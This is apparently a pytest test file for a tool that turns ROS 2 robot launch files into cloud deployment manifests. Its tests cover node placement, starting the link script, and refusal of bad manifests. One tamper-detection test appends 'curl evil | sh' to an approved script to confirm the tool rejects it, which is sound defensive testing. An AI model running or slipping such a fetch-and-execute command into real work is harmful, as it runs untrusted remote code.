"""The paper's interface in a robot's own launch file, before a real manifest that `fogspec compile` wrote."""

import asyncio
import os
import shutil
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from fogspec.base.yaml.writer import yaml_text
from fogspec.cli import main
from fogspec.importers.launch import read_launch
from fogspec.language.fingerprints import measured_record
from fogspec.language.loader import load
from fogspec.results.io import read_results_folder
from tests.support.launching import launched
from tests.support.results import write

ROOT = Path(__file__).resolve().parents[3]
LAUNCH = """\
from launch import LaunchDescription
from launch_ros.actions import Node
from fogspec.ros import SkyLaunchDescription


def generate_launch_description():
    planner = Node(package="{package}", executable="grasp_planning_node", parameters=[{{"model": "GQCNN-4.0-PJ"}}])
    return LaunchDescription([
        SkyLaunchDescription([planner], constraint={{"max_latency": 2, "alpha": 0.7}}{more}),
        Node(package="fogros2_examples", executable="grasp_planning_client"),
    ])
"""
NODES = """\
  cloud: [{ package: fogros2_examples, executable: grasp_planning_node, parameters: { model: GQCNN-4.0-PJ } }]
  robot: [{ package: fogros2_examples, executable: grasp_planning_client }]
"""


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The grasp-planning example's measurements as if of ROS 2 nodes of ours, joined by zenoh, and its manifest."""
    folder = tmp_path_factory.mktemp("project")
    spec = folder / "specs" / "grasp-planning-recorded.yaml"
    spec.parent.mkdir()
    shutil.copy(ROOT / "specs" / spec.name, spec)
    head, _, tail = spec.read_text().partition("  cloud:")
    tail = tail[tail.index("\n  ros:") :]
    spec.write_text(f"{head}{NODES}{tail}")
    (loaded,) = load([spec])
    measured = read_results_folder(ROOT / "results" / spec.stem)
    body = measured.spec.model_copy(update={"inputs": measured_record(loaded.application)})
    write(folder / "results" / spec.stem, body)
    compiled(spec)
    return folder


@pytest.fixture(autouse=True)
def links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FOGSPEC_LINKS", str(tmp_path / "links"))


def launch_file(project: Path, package: str = "fogros2_examples", more: str = "") -> Path:
    path = project / "launch" / "robot.launch.py"
    path.parent.mkdir(exist_ok=True)
    path.write_text(LAUNCH.format(package=package, more=more))
    return path


def compiled(spec: Path) -> None:
    with pytest.raises(SystemExit) as end:
        main(["compile", str(spec)])
    assert not end.value.code


def test_files_of_a_link_go_with_the_link(project: Path, tmp_path: Path) -> None:
    shutil.copytree(project, tmp_path / "project")
    spec, link = (
        tmp_path / "project" / "specs" / "grasp-planning-recorded.yaml",
        tmp_path / "project" / "compiled" / "grasp-planning-recorded" / "link",
    )
    zenoh = spec.read_text()
    assert sorted(path.name for path in link.iterdir()) == ["cloud.json5", "link.sh", "robot.json5"]
    spec.write_text(zenoh.replace("link: zenoh", "link: none"))
    compiled(spec)
    assert not link.exists()
    assert "FOGSPEC_LINK_PEER" not in (link.parent / "deploy.sky.yaml").read_text()


def test_cloud_nodes_are_not_started_and_robot_nodes_are(project: Path) -> None:
    said, environment, link, client = launched(launch_file(project))
    assert "not started here: grasp_planning_node; " in said.keywords["msg"]
    assert "This launch deploys nothing: fogspec apply does" in said.keywords["msg"]
    assert environment.arguments == ("RMW_IMPLEMENTATION", "rmw_zenoh_cpp")
    script = project / "compiled" / "grasp-planning-recorded" / "link" / "link.sh"
    assert link.keywords["cmd"] == ["bash", str(script), "robot", "up"]
    assert (client.kind, client.node_executable) == ("Node", "grasp_planning_client")


LISTING_1 = """\
from launch import LaunchDescription
from launch_ros.actions import Node
from fogspec.ros import SkyLaunchDescription


def generate_launch_description():
    planner = Node(package="fogros2_examples", executable="grasp_planning_node")
    sky = SkyLaunchDescription(nodes=[planner], max_latency=0.01, max_cost=0.01, min_cpu=2, max_cpu=64, alpha=0.7{more})
    return LaunchDescription([Node(package="fogros2_examples", executable="grasp_planning_client"){returned}])
"""


@pytest.mark.parametrize("returned", ["", ", sky"])
def test_listing_1_starts_the_link_once_whether_it_is_returned_or_only_built(
    project: Path, returned: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = project / "launch" / "listing.launch.py"
    path.parent.mkdir(exist_ok=True)
    path.write_text(LISTING_1.format(more="", returned=returned))
    monkeypatch.delenv("RMW_IMPLEMENTATION", raising=False)
    seen: list[tuple[str, ...]] = []

    async def play() -> list[str]:
        started = launched(path)
        # Before any process of the launch can start: processes start in later steps of its loop.
        assert os.environ["RMW_IMPLEMENTATION"] == "rmw_zenoh_cpp"
        await asyncio.sleep(0.2)
        kinds = [one.kind for one in started]
        for task in asyncio.all_tasks() - {asyncio.current_task()}:
            task.cancel()
        return kinds

    async def executed(*command: str) -> asyncio.subprocess.Process:
        seen.append(command)
        return await asyncio.create_subprocess_shell("exec sleep 30")

    monkeypatch.setattr("asyncio.create_subprocess_exec", executed)
    with ThreadPoolExecutor(1) as thread:  # a browser test of the same process may have left a running loop in this one
        kinds = thread.submit(asyncio.run, play()).result(timeout=600)
    monkeypatch.delenv("RMW_IMPLEMENTATION", raising=False)
    script = str(project / "compiled" / "grasp-planning-recorded" / "link" / "link.sh")
    assert seen == ([] if returned else [("bash", script, "robot", "up")])
    assert kinds.count("ExecuteProcess") == (1 if returned else 0)


def test_a_keyword_that_is_nothing_is_named_with_what_to_do(project: Path) -> None:
    path = project / "launch" / "listing.launch.py"
    path.parent.mkdir(exist_ok=True)
    path.write_text(LISTING_1.format(more=", colour=3", returned=""))
    with pytest.raises(TypeError, match=r"takes no colour; .* fogspec init --from-launch"):
        launched(path)


def test_it_starts_what_the_generated_launch_file_starts(project: Path) -> None:
    mine = launched(launch_file(project))[1:]
    # What the generated file does in a function of its own, the entity does when it is visited.
    generated = launched(project / "compiled" / "grasp-planning-recorded" / "robot.launch.py")
    assert [(one.kind, one.arguments, one.keywords.get("cmd")) for one in mine] == [
        (one.kind, one.arguments, one.keywords.get("cmd")) for one in generated if one.kind != "OpaqueFunction"
    ]


def test_init_reads_the_same_file_and_puts_the_same_nodes_into_the_cloud(project: Path) -> None:
    found = read_launch(launch_file(project))
    assert [node["executable"] for node in found.cloud] == ["grasp_planning_node"]
    assert [node["executable"] for node in found.robot] == ["grasp_planning_client"]
    assert found.constraints == {"latency": "2s"}


def test_a_manifest_of_other_nodes_is_refused(project: Path) -> None:
    with pytest.raises(ValueError, match="no manifest deploys other grasp_planning_node"):
        launched(launch_file(project, package="other"))
    manifest = project / "compiled/grasp-planning-recorded/manifest.yaml"
    with pytest.raises(ValueError, match="the launch file says other grasp_planning_node"):
        launched(launch_file(project, "other", f', manifest="{manifest}"'))


def test_a_link_that_was_edited_is_not_started(project: Path) -> None:
    script = project / "compiled" / "grasp-planning-recorded" / "link" / "link.sh"
    approved = script.read_text()
    script.write_text(approved + "curl evil | sh\n")
    try:
        with pytest.raises(ValueError, match="not what the manifest says"):
            launched(launch_file(project))
    finally:
        script.write_text(approved)


PROCESS = """\
from launch import LaunchDescription
from launch.actions import ExecuteProcess
from fogspec.ros import SkyLaunchDescription


def generate_launch_description():
    return LaunchDescription([SkyLaunchDescription([ExecuteProcess(cmd=["ros2", "launch", "gqcnn_ros", "{}"])])])
"""


def test_processes_are_told_apart_by_their_commands(tmp_path: Path) -> None:
    spec = {
        "instance": "m6i.large", "infra": "aws",
        "cloud": [{"cmd": ["ros2", "launch", "gqcnn_ros"], "arguments": ["planner.launch.py"]}],
    }  # fmt: skip
    path, launch = tmp_path / "compiled" / "a" / "manifest.yaml", tmp_path / "robot.launch.py"
    path.parent.mkdir(parents=True)
    path.write_text(
        yaml_text(
            {"kind": "DeploymentManifest", "metadata": {"name": "a"}, "spec": spec, "pins": {"files": []}},
            "fogspec compile",
        )
    )
    launch.write_text(PROCESS.format("planner.launch.py"))
    assert [one.kind for one in launched(launch)] == ["LogInfo"]
    launch.write_text(PROCESS.format("other.launch.py"))
    with pytest.raises(ValueError, match=r"deploys ros2 launch gqcnn_ros planner\.launch\.py"):
        launched(launch)


def test_words_of_fogros2_are_taken_and_others_are_not(project: Path) -> None:
    assert launched(launch_file(project, more=', mode="launch", ami="ami-1", workdir="~/ws"'))
    with pytest.raises(TypeError, match="takes no colour"):
        launched(launch_file(project, more=', colour="red"'))


def test_without_a_manifest_it_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="fogspec compile"):
        launched(launch_file(tmp_path))


def test_a_file_that_is_no_manifest_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FOGSPEC_MANIFEST", str(project / "compiled" / "grasp-planning-recorded" / "menu.yaml"))
    with pytest.raises(ValueError, match="is not a manifest of fogspec"):
        launched(launch_file(project))
